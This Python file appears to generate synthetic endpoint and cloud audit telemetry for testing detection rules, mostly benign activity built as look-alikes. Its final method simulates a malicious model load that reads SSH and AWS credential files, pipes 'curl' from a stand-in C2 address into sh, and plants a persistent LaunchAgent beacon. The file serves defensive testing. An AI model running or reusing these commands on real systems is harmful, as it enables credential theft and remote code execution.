        p = Proc(host, self.pid(), exe, [exe] + args, start=t, cwd=host.home + "/src",
                 sig=sig_adhoc(basename(exe)) if exe.startswith("/opt/") else sig_apple(basename(exe)),
                 parent=self.shell(host, t))
        self.exec_(out, p, t)
        if net:
            out.append(self.d.network(p, t + 0.2, self.ing(t + 0.2), net[0], net[1],
                                      src_port=49152 + int(self.rng.random() * 16000)))
        if self.rng.random() < 0.4:  # short-lived tools usually exit within the same batch
            out.append(self.d.process(p, t + 1.5, self.ing(t + 1.5), action="end"))
        return out

    def _app(self, host, t):
        exe, sig, dests = self.rng.choice(MAC_APPS)
        p = Proc(host, self.pid(), exe, [exe], start=t, cwd="/", sig=sig, parent=self.launchd(host))
        out = []
        self.exec_(out, p, t)
        for i, (ip, port) in enumerate(dests):
            out.append(self.d.network(p, t + 1 + i, self.ing(t + 1 + i), ip, port,
                                      src_port=49152 + int(self.rng.random() * 16000)))
        return out

    def _system(self, host, t):
        exe, args = self.rng.choice(MAC_DAEMONS)
        p = Proc(host, self.pid(), exe, [exe] + args, start=t, cwd="/", sig=sig_apple(basename(exe)),
                 parent=self.launchd(host), user="root")
        out = []
        self.exec_(out, p, t, end_after=3.0)
        return out

    def _file_churn(self, host, t):
        if host.os_type == "linux":
            exe, path = "/usr/bin/python3", "/data/checkpoints/run-%d/step-%d.pt" % (
                int(t) // 86400 % 100, int(self.rng.random() * 5000))
            p = Proc(host, self.pid(), exe, [exe, "train.py"], start=t - 100, cwd="/data")
        else:
            exe = self.rng.choice(["/Applications/Visual Studio Code.app/Contents/MacOS/Electron",
                                   "/usr/bin/git", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome"])
            path = host.home + self.rng.choice(["/src/app/main.py", "/Downloads/report-%d.pdf",
                                                "/src/app/.git/index", "/Library/Caches/tmp-%d.db"])
            if "%d" in path:
                path = path % int(self.rng.random() * 9999)
            p = Proc(host, self.pid(), exe, [exe], start=t - 100, cwd=host.home, sig=sig_apple(basename(exe)))
        action = self.rng.choice(["creation", "modification", "modification", "deletion", "rename"])
        return [self.d.file(p, t, self.ing(t), action, path, size=int(self.rng.random() * 200000))]

    def _python_proc(self, host, t, script_args, interp=None):
        exe, sig = interp or PY_INTERPRETERS[int(self.rng.random() * len(PY_INTERPRETERS))]
        return Proc(host, self.pid(), exe, [exe] + script_args, start=t, cwd=host.home + "/src/analysis",
                    sig=sig, parent=self.shell(host, t))

    def _python_work(self, host, t):
        py = self._python_proc(host, t, [self.rng.choice(["etl.py", "plot_metrics.py", "report.py", "fetch.py"])])
        out = []
        self.exec_(out, py, t)
        out.append(self.d.file(py, t + 2, self.ing(t + 2), "creation", host.home + "/src/analysis/out/result-%d.csv"
                               % int(self.rng.random() * 1000), size=48213))
        out.append(self.d.network(py, t + 1, self.ing(t + 1), "10.20.4.31", 8443))
        git = Proc(host, self.pid(), "/usr/bin/git", ["/usr/bin/git", "rev-parse", "HEAD"], start=t + 0.5,
                   cwd=py.cwd, sig=sig_apple("git"), parent=py)
        self.exec_(out, git, t + 0.5, end_after=0.1)  # subprocess without a shell: not a shell spawn
        out.append(self.d.process(py, t + 5, self.ing(t + 5), action="end"))
        return out

    def _pip(self, host, t):
        pkg = self.rng.choice(PIP_PACKAGES)
        py = self._python_proc(host, t, ["-m", "pip", "install", "--upgrade", pkg])
        out = []
        self.exec_(out, py, t)
        out.append(self.d.network(py, t + 0.5, self.ing(t + 0.5), "151.101.0.223", 443))
        sh = Proc(host, self.pid(), "/bin/sh", ["/bin/sh", "-c", "%s -m pip show %s" % (py.executable, pkg)],
                  start=t + 2, cwd=py.cwd, sig=sig_apple("sh"), parent=py)
        self.exec_(out, sh, t + 2, end_after=0.3)
        site = "/opt/homebrew/lib/python3.12/site-packages/%s/__init__.py" % pkg
        out.append(self.d.file(py, t + 3, self.ing(t + 3), "creation", site, size=3120))
        return out

    def _jupyter(self, host, t):
        py = self._python_proc(host, t, ["-m", "jupyterlab", "--no-browser"])
        out = []
        self.exec_(out, py, t)
        out.append(self.d.network(py, t + 1, self.ing(t + 1), "127.0.0.1", 8888, action="connection_accepted"))
        sh = Proc(host, self.pid(), "/bin/zsh", ["/bin/zsh", "-c", "jupyter kernelspec list --json"],
                  start=t + 3, cwd=py.cwd, sig=sig_apple("zsh"), parent=py)
        self.exec_(out, sh, t + 3, end_after=0.4)
        return out

    def _brew(self, host, t):
        out = []
        bash = Proc(host, self.pid(), "/bin/bash", ["/bin/bash", "/opt/homebrew/Library/Homebrew/brew.sh",
                                                    "upgrade"], start=t, cwd=host.home, sig=sig_apple("bash"),
                    parent=self.shell(host, t))
        self.exec_(out, bash, t)
        ruby = Proc(host, self.pid(), "/opt/homebrew/Library/Homebrew/vendor/portable-ruby/current/bin/ruby",
                    ["/opt/homebrew/Library/Homebrew/vendor/portable-ruby/current/bin/ruby",
                     "/opt/homebrew/Library/Homebrew/brew.rb", "upgrade"], start=t + 0.3, cwd=host.home,
                    sig=sig_adhoc("ruby"), parent=bash)
        self.exec_(out, ruby, t + 0.3)
        curl = Proc(host, self.pid(), "/usr/bin/curl", ["/usr/bin/curl", "--location", "--silent",
                                                        "https://ghcr.io/v2/homebrew/core/openssl/3/blobs/sha256:1f3e"],
                    start=t + 1, cwd=host.home, sig=sig_apple("curl"), parent=ruby)
        self.exec_(out, curl, t + 1, end_after=2.0)
        out.append(self.d.network(curl, t + 1.2, self.ing(t + 1.2), "140.82.113.34", 443))
        if self.rng.random() < 0.3:
            plist = host.home + "/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist"
            out.append(self.d.launch_daemon(ruby, t + 4, self.ing(t + 4), plist, "homebrew.mxcl.postgresql@16",
                                            ["/opt/homebrew/opt/postgresql@16/bin/postgres", "-D",
                                             "/opt/homebrew/var/postgresql@16"]))
        return out

    def _sensitive_open(self, host, t):
        exe, rel = self.rng.choice(SENSITIVE_BY_TOOL)
        p = Proc(host, self.pid(), exe, [exe], start=t - 5, cwd=host.home, sig=sig_apple(basename(exe)))
        return [self.d.file(p, t, self.ing(t), "open", host.home + "/" + rel, size=411)]

    def _mac_library(self, host, t):
        """An app or interpreter loading its modules: system frameworks, bundled dylibs, Python
        extension modules from site-packages (look-alikes for library-load rules)."""
        out = []
        if self.rng.random() < 0.5:
            exe, sig, _ = self.rng.choice(MAC_APPS)
            p = Proc(host, self.pid(), exe, [exe], start=t - 30, cwd="/", sig=sig, parent=self.launchd(host))
            app = exe.split("/Contents/")[0]
            libs = [(lib, sig_apple(basename(lib))) for lib in self.rng.sample(MAC_SYSTEM_LIBS, 2)]
            libs.append((app + "/Contents/Frameworks/%s.framework/Versions/A/%s" % (
                p.name.replace(" ", ""), p.name.replace(" ", "")), sig))
        else:
            p = self._python_proc(host, t - 5, ["-c", "import numpy"])
            site = "/opt/homebrew/lib/python3.12/site-packages"
            libs = [("/usr/lib/libSystem.B.dylib", sig_apple("libSystem.B")),
                    (site + "/numpy/core/_multiarray_umath.cpython-312-darwin.so", sig_adhoc("_multiarray_umath")),
                    (host.home + "/.pyenv/versions/3.12.3/lib/python3.12/site-packages/torch/lib/libtorch_cpu.dylib",
                     sig_adhoc("libtorch_cpu"))]
        for i, (path, sig) in enumerate(libs):
            out.append(self.d.library(p, t + 0.05 * i, self.ing(t), path, sig))
        return out

    # ---- Linux -----------------------------------------------------------------------------------

    def _linux_admin(self, host, t):
        """An operator at a shell: inspection, package and container tools, downloads."""
        sh = self.shell(host, t)
        exe, args, net = self.rng.choice(LINUX_TOOLS)
        user = "root" if exe in ("/usr/bin/systemctl", "/usr/sbin/iptables", "/usr/bin/docker") else host.user
        p = Proc(host, self.pid(), exe, [exe] + args, start=t, cwd=host.home, parent=sh, user=user)
        out = []
        self.exec_(out, p, t, end_after=0.5 + self.rng.random() * 3)
        if net:
            out.append(self.d.network(p, t + 0.1, self.ing(t + 0.1), net[0], net[1],
                                      src_port=32768 + int(self.rng.random() * 28000)))
        if exe.endswith(("/curl", "/wget")):
            out.append(self.d.file(p, t + 0.4, self.ing(t + 0.4), "creation",
                                   "/tmp/%s" % basename(args[-1]), size=int(self.rng.random() * 90000)))
        return out

    def _linux_service(self, host, t):
        """systemd starting a unit: the daemon, its config read, a log write."""
        systemd = Proc(host, 1, "/usr/lib/systemd/systemd", ["/usr/lib/systemd/systemd", "--system"], start=0,
                       user="root")
        exe, args, conf = self.rng.choice(LINUX_SERVICES)
        p = Proc(host, self.pid(), exe, [exe] + args, start=t, cwd="/", parent=systemd, user="root")
        out = []
        self.exec_(out, p, t)
        out.append(self.d.file(p, t + 0.2, self.ing(t + 0.2), "modification",
                               "/var/log/%s.log" % basename(exe), size=int(self.rng.random() * 400000)))
        if conf:
            out.append(self.d.file(p, t + 0.1, self.ing(t + 0.1), "open", conf, size=2048))
        return out


    def _cron(self, host, t):
        cron = Proc(host, self.pid(), "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], start=0, user="root")
        cmd = self.rng.choice(["/usr/local/bin/backup.sh", "run-parts /etc/cron.hourly", "logrotate /etc/logrotate.conf"])
        sh = Proc(host, self.pid(), "/bin/sh", ["/bin/sh", "-c", cmd], start=t, cwd="/root", parent=cron, user="root")
        out = []
        self.exec_(out, sh, t, end_after=1.0)
        return out

    def _train(self, host, t):
        py = Proc(host, self.pid(), "/usr/bin/python3", ["/usr/bin/python3", "train.py", "--epochs", "3"], start=t,
                  cwd="/data", parent=self.shell(host, t))
        out = []
        self.exec_(out, py, t)
        sh = Proc(host, self.pid(), "/bin/sh", ["/bin/sh", "-c", "nvidia-smi --query-gpu=memory.used --format=csv"],
                  start=t + 1, cwd="/data", parent=py)
        self.exec_(out, sh, t + 1, end_after=0.5)
        return out

    def _ssh_login(self, host, t):
        src = "10.20.%d.%d" % (int(self.rng.random() * 10), 2 + int(self.rng.random() * 200))
        return [self.d.auth(host, t, self.ing(t), self.rng.choice([host.user, "deploy", "root"]), src,
                            self.rng.random() > 0.1)]

    def _apt(self, host, t):
        apt = Proc(host, self.pid(), "/usr/bin/apt-get", ["/usr/bin/apt-get", "-y", "upgrade"], start=t, cwd="/root",
                   user="root", parent=self.shell(host, t))
        out = []
        self.exec_(out, apt, t, end_after=20)
        out.append(self.d.network(apt, t + 1, self.ing(t + 1), "151.101.2.132", 80))
        return out

    # ---- Windows ---------------------------------------------------------------------------------

    def _win_explorer(self, host):
        return Proc(host, 4321, "C:\\Windows\\explorer.exe", ["C:\\Windows\\explorer.exe"], start=0,
                    sig=sig_windows("Microsoft Windows"))

    def _win_app(self, host, t):
        exe = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
        p = Proc(host, self.pid(), exe, [exe], start=t, sig=sig_windows("Google LLC"), parent=self._win_explorer(host))
        out = [self.d.process(p, t, self.ing(t), action="start")]
        q = self.rng.choice(["www.google.com", "login.microsoftonline.com", "github.com", "slack.com"])
        out.append(self.d.dns(p, t + 0.1, self.ing(t + 0.1), q, ["142.250.72.100"]))
        out.append(self.d.network(p, t + 0.2, self.ing(t + 0.2), "142.250.72.100", 443))
        return out

    def _win_shell(self, host, t):
        exe = self.rng.choice(["C:\\Windows\\System32\\cmd.exe",
                               "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"])
        args = ["/c", "ipconfig /all"] if exe.endswith("cmd.exe") else ["-NoProfile", "-Command", "Get-Process"]
        p = Proc(host, self.pid(), exe, [exe] + args, start=t, sig=sig_windows("Microsoft Windows"),
                 parent=self._win_explorer(host))
        return [self.d.process(p, t, self.ing(t), action="start")]

    def _win_python(self, host, t):
        exe = "C:\\Program Files\\Python312\\python.exe"
        py = Proc(host, self.pid(), exe, [exe, "sync.py"], start=t, sig=sig_windows("Python Software Foundation"),
                  parent=self._win_explorer(host))
        out = [self.d.process(py, t, self.ing(t), action="start")]
        cmd = Proc(host, self.pid(), "C:\\Windows\\System32\\cmd.exe", ["C:\\Windows\\System32\\cmd.exe", "/c",
                                                                        "dir"], start=t + 1,
                   sig=sig_windows("Microsoft Windows"), parent=py)
        out.append(self.d.process(cmd, t + 1, self.ing(t + 1), action="start"))
        return out

    def _win_files(self, host, t):
        p = Proc(host, self.pid(), "C:\\Windows\\System32\\svchost.exe", ["C:\\Windows\\System32\\svchost.exe", "-k",
                                                                         "netsvcs"], start=0,
                 sig=sig_windows("Microsoft Windows"), user="SYSTEM")
        path = "C:\\Windows\\Temp\\%08x.tmp" % int(self.rng.random() * 0xFFFFFFFF)
        return [self.d.file(p, t, self.ing(t), self.rng.choice(["creation", "deletion"]), path, size=1024)]

    def _win_library(self, host, t):
        exe, signer = self.rng.choice(WIN_PROGRAMS)
        p = Proc(host, self.pid(), exe, [exe], start=t - 10, sig=sig_windows(signer), parent=self._win_explorer(host))
        out = []
        for i, dll in enumerate(self.rng.sample(WIN_SYSTEM_DLLS, 3)):
            out.append(self.d.library(p, t + 0.02 * i, self.ing(t), "C:\\Windows\\System32\\" + dll,
                                      sig_windows("Microsoft Windows")))
        return out

    def _win_registry(self, host, t):
        """Installers and updaters writing their Run keys and settings (look-alikes for persistence rules)."""
        exe, signer, hive, key, value, data = self.rng.choice(WIN_REGISTRY_WRITES)
        user = "SYSTEM" if hive == "HKLM" else None
        p = Proc(host, self.pid(), exe, [exe], start=t - 2, sig=sig_windows(signer), parent=self._win_explorer(host),
                 user=user)
        if hive == "HKU":
            key = host.uid + "\\" + key
        return [self.d.registry(p, t, self.ing(t), hive, key, value, [data.replace("{user}", host.user)])]

    def _win_service(self, host, t):
        """services.exe starting svchost groups and service binaries, with their network activity."""
        services = Proc(host, 700, "C:\\Windows\\System32\\services.exe", ["C:\\Windows\\System32\\services.exe"],
                        start=0, sig=sig_windows("Microsoft Windows"), user="SYSTEM")
        group = self.rng.choice(["netsvcs", "LocalServiceNetworkRestricted", "NetworkService", "DcomLaunch"])
        exe = "C:\\Windows\\System32\\svchost.exe"
        p = Proc(host, self.pid(), exe, [exe, "-k", group, "-p"], start=t, sig=sig_windows("Microsoft Windows"),
                 parent=services, user="SYSTEM")
        out = [self.d.process(p, t, self.ing(t), action="start")]
        if self.rng.random() < 0.5:
            out.append(self.d.network(p, t + 0.3, self.ing(t + 0.3), "20.190.151.%d" % int(self.rng.random() * 200),
                                      443, src_port=49700 + int(self.rng.random() * 15000)))
        return out

    # ---- cloud and SaaS audit logs (no host; other indices entirely) ------------------------------

    def cloud_event(self, t: float, users: list[str]) -> dict:
        rng, d = self.rng, self.d
        user = users[int(rng.random() * len(users))]
        ip = "198.51.100.%d" % int(rng.random() * 250)
        k = rng.random()
        if k < 0.35:
            return d.cloudtrail(t, self.ing(t), "1234567890%02d" % int(rng.random() * 20), user,
                                rng.choice(["GetCallerIdentity", "ListBuckets", "GetObject", "AssumeRole",
                                            "ConsoleLogin", "CreateAccessKey", "GetSecretValue",
                                            "DescribeInstances", "PutBucketPolicy", "UpdateLoginProfile"]), ip)
        if k < 0.55:
            action = rng.choice(["user.session.start", "user.authentication.sso", "user.mfa.factor.verify",
                                 "policy.evaluate_sign_on", "user.account.update_password"])
            return d.integration(t, self.ing(t), "okta.system", action, ["authentication"], ["info"],
                                 "success" if rng.random() > 0.05 else "failure",
                                 {"okta": {"actor": {"alternate_id": user + "@example.com", "type": "User"},
                                           "event_type": action},
                                  "source": {"ip": ip}, "user": {"name": user + "@example.com"},
                                  "user_agent": {"original": "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5)"}})
        if k < 0.75:
            op = rng.choice(["UserLoggedIn", "FileAccessed", "MailItemsAccessed", "New-InboxRule", "Set-Mailbox"])
            return d.integration(t, self.ing(t), "o365.audit", op, ["web"], ["info"], "success",
                                 {"o365": {"audit": {"Operation": op, "UserId": user + "@example.com",
                                                     "Workload": "Exchange" if "Mail" in op else "AzureActiveDirectory"}},
                                  "source": {"ip": ip}, "user": {"id": user + "@example.com"}},
                                 provider="Exchange")
        if k < 0.9:
            verb = rng.choice(["get", "list", "watch", "create", "patch"])
            res = rng.choice(["pods", "secrets", "configmaps", "deployments"])
            return d.integration(t, self.ing(t), "kubernetes.audit_logs", verb, ["web"], ["info"], "success",
                                 {"kubernetes": {"audit": {"verb": verb, "objectRef": {"resource": res,
                                                                                       "namespace": "ml-serving"},
                                                           "user": {"username": "system:serviceaccount:ml:" + user}}},
                                  "source": {"ip": "10.96.0.%d" % int(rng.random() * 250)}})
        return d.integration(t, self.ing(t), "azure.signinlogs", "Sign-in activity", ["authentication"], ["info"],
                             "success", {"azure": {"signinlogs": {"properties": {
                                 "app_display_name": "Microsoft Teams", "user_principal_name": user + "@example.com",
                                 "status": {"error_code": 0}}}}, "source": {"ip": ip}})

    # ---- the malicious model load (what the three rules are for) ---------------------------------

    def malicious_model_load(self, host: Host, t: float, interp=None, label: str = "com.apple.mlcache",
                             c2: str = "203.0.113.77") -> list[dict]:
        """python3 load.py model.pt -> sh -c 'curl ... | sh'; reads ~/.ssh/id_rsa and ~/.aws/credentials;
        writes ~/Library/LaunchAgents/<label>.plist. One alert per rule on a host that never did this."""
        out = []
        py = self._python_proc(host, t, ["load.py", "model.pt"], interp=interp or PY_INTERPRETERS[0])
        self.exec_(out, py, t)
        out.append(self.d.file(py, t + 0.4, self.ing(t + 0.4), "open", host.home + "/.ssh/id_rsa", size=2602))
        out.append(self.d.file(py, t + 0.5, self.ing(t + 0.5), "open", host.home + "/.aws/credentials", size=116))
        sh = Proc(host, self.pid(), "/bin/sh", ["/bin/sh", "-c", "curl -fsSL http://%s/stage2.sh | sh" % c2],
                  start=t + 1, cwd=py.cwd, sig=sig_apple("sh"), parent=py)
        self.exec_(out, sh, t + 1)
        curl = Proc(host, self.pid(), "/usr/bin/curl", ["/usr/bin/curl", "-fsSL", "http://%s/stage2.sh" % c2],
                    start=t + 1.1, cwd=py.cwd, sig=sig_apple("curl"), parent=sh)
        self.exec_(out, curl, t + 1.1, end_after=0.8)
        out.append(self.d.network(curl, t + 1.2, self.ing(t + 1.2), c2, 80))
        plist = host.home + "/Library/LaunchAgents/%s.plist" % label
        out.append(self.d.launch_daemon(py, t + 2, self.ing(t + 2), plist, label,
                                        ["/bin/sh", "-c", "curl -fsSL http://%s/beacon | sh" % c2],
                                        runatload=True, keepalive=True))
        out.append(self.d.process(py, t + 3, self.ing(t + 3), action="end"))
        return out
